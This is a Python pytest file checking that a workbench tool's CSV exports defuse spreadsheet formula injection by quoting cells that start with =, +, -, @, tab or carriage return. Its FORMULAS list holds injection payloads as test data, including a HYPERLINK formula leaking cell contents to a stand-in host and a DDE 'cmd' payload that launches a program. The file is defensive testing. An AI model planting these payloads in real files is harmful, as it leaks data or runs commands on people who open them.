"""CSV exports a spreadsheet opens as data: a cell starting with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return gets a quote in front (OWASP's defence against CSV injection),
in the notes, comparison and entity-table exports alike; numbers are left as numbers.
The text is the seed articles, with their entities."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from workbench.core.library import Library
from workbench.core.spreadsheet import FORMULA_STARTS, safe_frame

from ..support import CNN_LI_ZHANSHU, CNN_TRANSLATION

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _runnable(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would take for a formula (a number is not one)."""
    out = []
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                try:
                    float(cell)
                except ValueError:
                    out.append(cell)
    return out


@pytest.mark.spacy
def test_no_csv_export_holds_a_cell_a_spreadsheet_would_run(
    library_copy: Path, tmp_path: Path
) -> None:
    with Library.open(library_copy) as lib:
        for formula in FORMULAS:
            lib.notes.add(
                formula,
                tags=[formula.strip()],
                anchors=[lib.notes.anchor_quote(CNN_LI_ZHANSHU, "Li Zhanshu")],
            )
        lib.entities.rename("Li Zhanshu", FORMULAS[0])
        lib.entities.rename("Xi Jinping", "@cmd")

        notes = tmp_path / "notes.csv"
        lib.notes.export(notes)
        comparison = lib.export_comparison(CNN_TRANSLATION, CNN_LI_ZHANSHU, tmp_path / "c.csv")
        tables = [
            lib.entities.export_table(tmp_path / f"{kind}.csv", kind=kind)
            for kind in ("entities", "matrix", "comentions")
        ]
    for path in (notes, comparison, *tables):
        rows = _cells(path)
        assert not _runnable(rows), (path.name, _runnable(rows))
    bodies = [row[4] for row in _cells(notes)[1:]]
    for formula in FORMULAS:
        assert "'" + formula in bodies  # kept whole, only made inert
    names = [row[1] for row in _cells(comparison)[1:]]
    assert "'" + FORMULAS[0] in names and "'@cmd" in names
    entities = pd.read_csv(tables[0], keep_default_na=False)
    assert "'@cmd" in entities.name.tolist()
    assert entities.documents.dtype.kind == "i"  # numbers stay numbers


def test_headers_and_row_labels_are_made_safe_too() -> None:
    frame = pd.DataFrame(
        {"=id": [1, -2], "title": ["-minus", "plain"], "score": [-1.5, 2.0]},
        index=pd.Index(["@label", "ok"], name="+key"),
    )
    safe = safe_frame(frame)
    assert list(safe.columns) == ["'=id", "title", "score"]
    assert list(safe.index) == ["'@label", "ok"] and safe.index.name == "'+key"
    assert safe["title"].tolist() == ["'-minus", "plain"]
    assert safe["'=id"].tolist() == [1, -2]
    assert safe["score"].tolist() == [-1.5, 2.0]
    assert frame["title"].tolist() == ["-minus", "plain"]  # the table itself is unchanged
